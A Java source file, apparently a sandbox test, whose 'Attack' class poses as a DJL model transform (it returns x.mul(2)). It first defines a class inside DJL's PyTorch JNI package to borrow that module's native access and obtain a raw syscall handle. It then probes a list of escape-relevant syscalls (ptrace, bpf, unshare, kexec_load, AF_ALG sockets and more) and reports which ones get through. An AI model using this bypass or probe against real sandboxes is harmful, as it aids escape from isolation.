package t;

import static java.lang.foreign.ValueLayout.JAVA_LONG;

import ai.djl.ndarray.NDArray;
import java.lang.classfile.ClassFile;
import java.lang.constant.ClassDesc;
import java.lang.constant.MethodTypeDesc;
import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemoryLayout;
import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandles;

public final class Attack {
  public static NDArray attack(NDArray x) throws Exception {
    // A class that is defined inside of DJL's module makes DJL's own calls.
    var library = Class.forName("ai.djl.pytorch.jni.PyTorchLibrary");
    var type = MethodTypeDesc.of(ClassDesc.of("java.lang.invoke.MethodHandle"), SYMBOL, FUNCTION, OPTIONS);
    var bytes =
        ClassFile.of().build(
            ClassDesc.of("ai.djl.pytorch.jni.Inside"),
            inside ->
                inside
                    .withFlags(ClassFile.ACC_PUBLIC)
                    .withMethodBody("link", type.insertParameterTypes(0, LINKER), ClassFile.ACC_PUBLIC | ClassFile.ACC_STATIC,
                        code -> code.aload(0).aload(1).aload(2).aload(3).invokeinterface(LINKER, "downcallHandle", type).areturn()));
    var inside = MethodHandles.privateLookupIn(library, MethodHandles.lookup()).defineClass(bytes);
    var linker = Linker.nativeLinker();
    var call =
        (MethodHandle)
            inside.getMethods()[0].invoke(
                null,
                linker,
                linker.defaultLookup().find("syscall").orElseThrow(),
                FunctionDescriptor.of(JAVA_LONG, JAVA_LONG, JAVA_LONG, JAVA_LONG, JAVA_LONG),
                new Linker.Option[] {Linker.Option.firstVariadicArg(1), Linker.Option.captureCallState("errno")});
    try {
      tryAll(call);
    } catch (Exception | Error e) {
      throw e;
    } catch (Throwable e) {
      throw new IllegalStateException(e);
    }
    return x.mul(2);
  }

  private static final ClassDesc LINKER = ClassDesc.of("java.lang.foreign.Linker");
  private static final ClassDesc OPTIONS = LINKER.nested("Option").arrayType();
  private static final ClassDesc SYMBOL = ClassDesc.of("java.lang.foreign.MemorySegment");
  private static final ClassDesc FUNCTION = ClassDesc.of("java.lang.foreign.FunctionDescriptor");

  private static final Object[][] CALLS = {
    {"socket AF_ALG", 41, 38, 5}, {"socket AF_VSOCK", 41, 40, 1}, {"socket AF_NETLINK", 41, 16, 3},
    {"socket AF_PACKET", 41, 17, 3}, {"io_uring_setup", 425, 8, 0}, {"ptrace", 101, 0, 0},
    {"process_vm_readv", 310, 1, 0}, {"process_vm_writev", 311, 1, 0}, {"add_key", 248, 0, 0},
    {"keyctl", 250, 0, 0}, {"bpf", 321, 0, 0}, {"userfaultfd", 323, 0, 0},
    {"unshare NEWUSER", 272, 0x10000000, 0}, {"mount", 165, 0, 0}, {"fsopen", 430, 0, 0},
    {"open_tree", 428, 0, 0}, {"setns", 308, 0, 0}, {"pivot_root", 155, 0, 0}, {"chroot", 161, 0, 0},
    {"perf_event_open", 298, 0, 0}, {"memfd_create", 319, 0, 0}, {"personality", 135, 0xffffffff, 0},
    {"kexec_load", 246, 0, 0}, {"init_module", 175, 0, 0}, {"open_by_handle_at", 304, 0, 0},
    {"splice", 275, 0, 0}, {"vmsplice", 278, 0, 0}, {"pidfd_getfd", 438, 0, 0}, {"kcmp", 312, 0, 0},
    {"syslog", 103, 3, 0}, {"quotactl", 179, 0, 0}, {"mknod", 133, 0, 0}, {"setuid", 105, 0, 0},
    {"clone NEWUSER", 56, 0x10000011, 0}
  };

  private static void tryAll(MethodHandle call) throws Throwable {
    var state = Linker.Option.captureStateLayout();
    var field = state.varHandle(MemoryLayout.PathElement.groupElement("errno"));
    try (var arena = Arena.ofConfined()) {
      var errors = arena.allocate(state);
      for (var c : CALLS) {
        long number = (int) c[1];
        long first = Integer.toUnsignedLong((int) c[2]);
        long second = (int) c[3];
        long answer = (long) call.invokeExact(errors, number, first, second, 0L);
        if (answer != -1 || (int) field.get(errors, 0L) != 1) {
          System.out.println("LET THROUGH " + c[0] + ": " + answer);
        }
      }
      long clone3 = (long) call.invokeExact(errors, 435L, 0L, 0L, 0L);
      System.out.println("clone3 " + clone3 + " " + (int) field.get(errors, 0L));
    }
  }
}
